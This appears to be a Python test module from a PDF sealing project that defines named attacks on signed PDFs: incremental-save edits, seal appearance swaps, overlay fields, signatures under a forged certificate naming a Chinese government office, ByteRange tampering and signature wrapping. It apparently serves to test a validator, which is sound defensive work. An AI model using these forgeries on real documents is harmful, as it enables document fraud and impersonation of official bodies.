"""Attacks on sealed PDFs, each a function from an honest file to a dishonest one.

The names are those of the literature: incremental saving (ISA), universal forgery (USF), signature
wrapping (SWA), shadow, sneaky signature, appended bytes. No third-party file is needed.
"""

import io
import re
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.x509.oid import NameOID
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.content import RawContent
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.layout import BoxConstraints
from pyhanko.sign.fields import MDPPerm, SigFieldSpec, SigSeedSubFilter, enumerate_sig_fields
from pyhanko.sign.signers.cms_embedder import PdfCMSEmbedder, SigIOSetup, SigMDPSetup, SigObjSetup
from pyhanko.sign.signers.pdf_byterange import DocumentTimestamp, SignatureObject

from signing import cms
from signing.keys import KeySigner, generate_key
from signing.seal.strict import open_writer
from signing.signer import Signer
from signing.timestamp import TimestampSource, request_for, token_of

Attack = Callable[[bytes], bytes]
ATTACKS: dict[str, Attack] = {}


def attack(function: Attack) -> Attack:
    """Enter an attack under its name."""
    ATTACKS[function.__name__] = function
    return function


@dataclass(frozen=True)
class _Update:
    """An incremental update in the making."""

    writer: IncrementalPdfFileWriter

    @classmethod
    def of(cls, pdf: bytes) -> "_Update":
        return cls(IncrementalPdfFileWriter(io.BytesIO(pdf)))

    @property
    def page(self) -> generic.DictionaryObject:
        """The last page, marked as changed."""
        reference, _ = self.writer.find_page_for_modification(-1)
        self.writer.mark_update(reference)
        found: generic.DictionaryObject = reference.get_object()
        return found

    def form(self, drawing: bytes) -> generic.IndirectObject:
        """A form of the size of a seal."""
        content = RawContent(drawing, box=BoxConstraints(width=119, height=119))
        return self.writer.add_object(content.as_form_xobject())

    def seal_field(self) -> generic.DictionaryObject:
        """The first signature field, marked as changed."""
        _, _, reference = next(enumerate_sig_fields(self.writer))
        self.writer.mark_update(reference)
        found: generic.DictionaryObject = reference.get_object()
        return found

    def done(self) -> bytes:
        """The file with the update."""
        sink = io.BytesIO()
        self.writer.write(sink)
        return sink.getvalue()


def stranger(name: str = "安徽省人民政府办公厅", *, issuer: bytes | None = None) -> KeySigner:
    """A self-signed certificate with any name its maker likes, and any name of an issuer."""
    key = generate_key()
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, name)])
    above = subject if issuer is None else x509.load_der_x509_certificate(issuer).subject
    now = datetime.now(UTC)  # noqa: TID251 - a throw-away certificate, valid now
    certificate = (
        x509.CertificateBuilder()
        .subject_name(subject)
        .issuer_name(above)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - timedelta(days=1))
        .not_valid_after(now + timedelta(days=365))
        .add_extension(
            x509.SubjectAlternativeName(
                [x509.UniformResourceIdentifier("urn:yidao:body:340000.bgt")]
            ),
            critical=False,
        )
        .add_extension(x509.KeyUsage(**dict.fromkeys(_BITS, False) | _SIGN), critical=True)
        .sign(key, hashes.SHA256())
    )
    return KeySigner(key, certificate.public_bytes(serialization.Encoding.DER))


_BITS = (
    "digital_signature", "content_commitment", "key_encipherment", "data_encipherment",
    "key_agreement", "key_cert_sign", "crl_sign", "encipher_only", "decipher_only",
)  # fmt: skip
_SIGN = {"digital_signature": True, "content_commitment": True}


def sign_field(
    pdf: bytes,
    field: str,
    signer: Signer,
    *,
    box: tuple[int, int, int, int] | None = None,
    certify: MDPPerm | None = None,
    existing: bool = False,
) -> bytes:
    """Any signature by anyone, without asking whether it may be."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    spec = None if existing else SigFieldSpec(field, on_page=-1, box=box)
    steps = PdfCMSEmbedder(new_field_spec=spec).write_cms(field, writer, existing)
    next(steps)
    placeholder = SignatureObject(
        timestamp=datetime.now(UTC),  # noqa: TID251 - what a forger claims
        subfilter=SigSeedSubFilter.PADES,
        bytes_reserved=16384,
    )
    protection = SigMDPSetup("sha256", certify=certify is not None, docmdp_perms=certify)
    steps.send(SigObjSetup(placeholder, protection))
    prepared, output = steps.send(SigIOSetup("sha256"))
    steps.send(cms.sign_digest(prepared.document_digest, signer, at=None))
    return bytes(output.getvalue())


def stamp_document(pdf: bytes, source: TimestampSource, field: str = "Archive1") -> bytes:
    """An archive time-stamp (B-LTA) as the archive adds it: a new invisible field."""
    writer = open_writer(pdf, bytes(16))
    steps = PdfCMSEmbedder(new_field_spec=SigFieldSpec(field)).write_cms(field, writer)
    next(steps)
    steps.send(SigObjSetup(DocumentTimestamp(bytes_reserved=16384)))
    prepared, output = steps.send(SigIOSetup("sha256"))
    steps.send(token_of(source(request_for(prepared.document_digest))))
    return bytes(output.getvalue())


def _box(*edges: int) -> generic.ArrayObject:
    return generic.ArrayObject(generic.NumberObject(edge) for edge in edges)


def _byte_range(pdf: bytes, change: Callable[[list[int]], list[int]]) -> bytes:
    found = re.search(rb"/ByteRange \[([\d ]+)\] *", pdf)
    assert found is not None
    numbers = change([int(edge) for edge in found[1].split()])
    text = b"/ByteRange [" + b" ".join(str(edge).encode() for edge in numbers) + b"]"
    return pdf[: found.start()] + text.ljust(len(found[0])) + pdf[found.end() :]


def _contents(pdf: bytes, change: Callable[[bytes], bytes]) -> bytes:
    found = re.search(rb"/Contents <([0-9A-Fa-f]+)>", pdf)
    assert found is not None
    return pdf[: found.start(1)] + change(found[1]) + pdf[found.end(1) :]


# --- incremental saving ---------------------------------------------------------------------------


@attack
def page_content_replaced(pdf: bytes) -> bytes:
    update = _Update.of(pdf)
    drawing = generic.StreamObject(stream_data=b"BT /F1 20 Tf 80 600 Td (other text) Tj ET")
    update.page["/Contents"] = update.writer.add_object(drawing)
    return update.done()


@attack
def page_content_added(pdf: bytes) -> bytes:
    update = _Update.of(pdf)
    page = update.page
    more = update.writer.add_object(generic.StreamObject(stream_data=b"1 0 0 rg 90 690 80 30 re f"))
    page["/Contents"] = generic.ArrayObject([page.raw_get("/Contents"), more])
    return update.done()


@attack
def page_added(pdf: bytes) -> bytes:
    update = _Update.of(pdf)
    pages = update.writer.root["/Pages"]
    copy = update.writer.add_object(generic.DictionaryObject(dict(update.page)))
    pages["/Kids"].append(copy)
    pages["/Count"] = generic.NumberObject(int(pages["/Count"]) + 1)
    update.writer.update_container(pages["/Kids"])
    update.writer.update_container(pages)
    return update.done()


@attack
def pages_swapped(pdf: bytes) -> bytes:
    update = _Update.of(pdf)
    kids = update.writer.root["/Pages"]["/Kids"]
    kids.reverse()
    update.writer.update_container(kids)
    return update.done()


@attack
def font_redefined(pdf: bytes) -> bytes:
    update = _Update.of(pdf)
    fonts = update.page["/Resources"]["/Font"]
    for name in list(fonts):
        fonts[name]["/BaseFont"] = pdf_name("/ZapfDingbats")
        update.writer.update_container(fonts[name])
    return update.done()


@attack
def annotation_added(pdf: bytes) -> bytes:
    update = _Update.of(pdf)
    note = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/FreeText"),
            pdf_name("/Rect"): _box(80, 690, 300, 720),
            pdf_name("/Contents"): generic.pdf_string("other text"),
            pdf_name("/F"): generic.NumberObject(4),
        }
    )  # fmt: skip
    update.writer.register_annotation(
        update.writer.find_page_for_modification(-1)[0], update.writer.add_object(note)
    )
    return update.done()


@attack
def root_replaced(pdf: bytes) -> bytes:
    update = _Update.of(pdf)
    root = update.writer.root
    root["/Names"] = generic.DictionaryObject()
    root["/OpenAction"] = generic.DictionaryObject(
        {
            pdf_name("/S"): pdf_name("/JavaScript"),
            pdf_name("/JS"): generic.pdf_string("app.alert(1)"),
        }
    )
    update.writer.update_root()
    return update.done()


@attack
def certification_withdrawn(pdf: bytes) -> bytes:
    update = _Update.of(pdf)
    del update.writer.root["/Perms"]
    update.writer.update_root()
    return update.done()


# --- the seal -------------------------------------------------------------------------------------


@attack
def seal_appearance_swapped(pdf: bytes) -> bytes:
    update = _Update.of(pdf)
    field = update.seal_field()
    field["/AP"] = generic.DictionaryObject(
        {pdf_name("/N"): update.form(b"1 0 0 rg 0 0 119 119 re f")}
    )
    return update.done()


@attack
def seal_appearance_overwritten(pdf: bytes) -> bytes:
    update = _Update.of(pdf)
    _, _, reference = next(enumerate_sig_fields(update.writer))
    form = reference.get_object()["/AP"]["/N"]
    form._data, form._encoded_data = b"1 0 0 rg 0 0 119 119 re f", None
    update.writer.update_container(form)
    return update.done()


@attack
def seal_moved(pdf: bytes) -> bytes:
    update = _Update.of(pdf)
    field = update.seal_field()
    field["/Rect"] = _box(10, 10, 129, 129)
    return update.done()


@attack
def seal_field_removed(pdf: bytes) -> bytes:
    update = _Update.of(pdf)
    form = update.writer.root["/AcroForm"]
    form["/Fields"] = generic.ArrayObject()
    update.writer.update_container(form)
    return update.done()


# --- forms ----------------------------------------------------------------------------------------


@attack
def form_overlay(pdf: bytes) -> bytes:
    update = _Update.of(pdf)
    box = _box(80, 690, 300, 720)
    field = generic.DictionaryObject(
        {
            pdf_name("/FT"): pdf_name("/Tx"),
            pdf_name("/T"): generic.pdf_string("overlay"),
            pdf_name("/V"): generic.pdf_string("other text"),
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/Widget"),
            pdf_name("/Rect"): box,
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/AP"): generic.DictionaryObject(
                {pdf_name("/N"): update.form(b"0 0 119 119 re f")}
            ),
        }
    )  # fmt: skip
    reference = update.writer.add_object(field)
    form = update.writer.root["/AcroForm"]
    form["/Fields"].append(reference)
    update.writer.update_container(form["/Fields"])
    update.writer.register_annotation(update.writer.find_page_for_modification(-1)[0], reference)
    return update.done()


@attack
def signature_field_with_a_painting(pdf: bytes) -> bytes:
    """A new empty signature field whose appearance covers the text."""
    signed = sign_field(pdf, "Painting", stranger(), box=(80, 690, 300, 720))
    update = _Update.of(signed)
    *_, (_, _, reference) = enumerate_sig_fields(update.writer)
    reference.get_object()["/AP"] = generic.DictionaryObject(
        {pdf_name("/N"): update.form(b"0 0 119 119 re f")}
    )
    update.writer.mark_update(reference)
    return update.done()


@attack
def stranger_signs_visibly(pdf: bytes) -> bytes:
    return sign_field(pdf, "Sneaky", stranger(), box=(300, 300, 420, 420))


@attack
def stranger_signs_invisibly(pdf: bytes) -> bytes:
    return sign_field(pdf, "Sneaky", stranger())


@attack
def signature_shown_twice(pdf: bytes) -> bytes:
    """A second field, elsewhere on the page, that points at the honest signature."""
    update = _Update.of(pdf)
    _, _, honest = next(enumerate_sig_fields(update.writer))
    copy = generic.DictionaryObject(dict(honest.get_object()))
    copy["/T"] = generic.pdf_string("Again")
    copy["/Rect"] = _box(10, 10, 129, 129)
    reference = update.writer.add_object(copy)
    form = update.writer.root["/AcroForm"]
    form["/Fields"].append(reference)
    update.writer.update_container(form["/Fields"])
    update.writer.register_annotation(update.writer.find_page_for_modification(-1)[0], reference)
    return update.done()


# --- bytes around and inside ----------------------------------------------------------------------


@attack
def bytes_appended(pdf: bytes) -> bytes:
    return pdf + b"BT (other text) Tj ET\n"


@attack
def comment_appended(pdf: bytes) -> bytes:
    return pdf + b"% nothing to see\n"


@attack
def bytes_appended_with_the_old_reference(pdf: bytes) -> bytes:
    start = pdf.rindex(b"startxref")
    return pdf + b"99 0 obj\n<</A 1>>\nendobj\n" + pdf[start:]


@attack
def bytes_before(pdf: bytes) -> bytes:
    return b"\n" + pdf


@attack
def object_appended_without_reference(pdf: bytes) -> bytes:
    return pdf + b"4 0 obj\n<</Length 0>>\nstream\n\nendstream\nendobj\n%%EOF\n"


@attack
def truncated(pdf: bytes) -> bytes:
    return pdf[:-200]


@attack
def truncated_to_before_the_seal(pdf: bytes) -> bytes:
    return pdf[: pdf.index(b"%%EOF") + 6]


@attack
def byte_flipped_on_a_page(pdf: bytes) -> bytes:
    place = pdf.index(b"stream") + 20
    return pdf[:place] + bytes((pdf[place] ^ 1,)) + pdf[place + 1 :]


@attack
def byte_flipped_in_the_seal(pdf: bytes) -> bytes:
    place = pdf.index(b"/Multiply") + 1
    return pdf[:place] + b"Screen  " + pdf[place + 8 :]


@attack
def byte_flipped_in_the_signature(pdf: bytes) -> bytes:
    return _contents(pdf, lambda text: text[:2000] + bytes((text[2000] ^ 1,)) + text[2001:])


@attack
def padding_used(pdf: bytes) -> bytes:
    return _contents(pdf, lambda text: text[:-8] + b"DEADBEEF")


@attack
def contents_emptied(pdf: bytes) -> bytes:
    return _contents(pdf, lambda text: b"0" * len(text))


@attack
def contents_blank(pdf: bytes) -> bytes:
    return _contents(pdf, lambda text: b" " * len(text))


@attack
def byte_range_zero(pdf: bytes) -> bytes:
    return _byte_range(pdf, lambda _: [0, 0, 0, 0])


@attack
def byte_range_single(pdf: bytes) -> bytes:
    return _byte_range(pdf, lambda edges: edges[:2])


@attack
def byte_range_shifted(pdf: bytes) -> bytes:
    return _byte_range(pdf, lambda e: [e[0], e[1] - 40, e[2], e[3]])


@attack
def byte_range_from_later(pdf: bytes) -> bytes:
    return _byte_range(pdf, lambda e: [9, e[1] - 9, e[2], e[3]])


@attack
def byte_range_beyond_the_end(pdf: bytes) -> bytes:
    return _byte_range(pdf, lambda e: [e[0], e[1], e[2], e[3] + 500])


@attack
def wrapped(pdf: bytes) -> bytes:
    """The signed second part moved behind, another one in its place (SWA)."""
    found = re.search(rb"/ByteRange \[([\d ]+)\]", pdf)
    assert found is not None
    _, gap, after, length = (int(edge) for edge in found[1].split())
    tail = pdf[after : after + length]
    evil = tail.replace(b"/Seal", b"/Evil")
    moved = pdf[:after] + evil + tail
    return (
        moved[: found.start()]
        + _retold(found[0], gap, after + len(evil), length)
        + moved[found.end() :]
    )


def _retold(old: bytes, gap: int, after: int, length: int) -> bytes:
    return f"/ByteRange [0 {gap} {after} {length}]".encode().ljust(len(old))
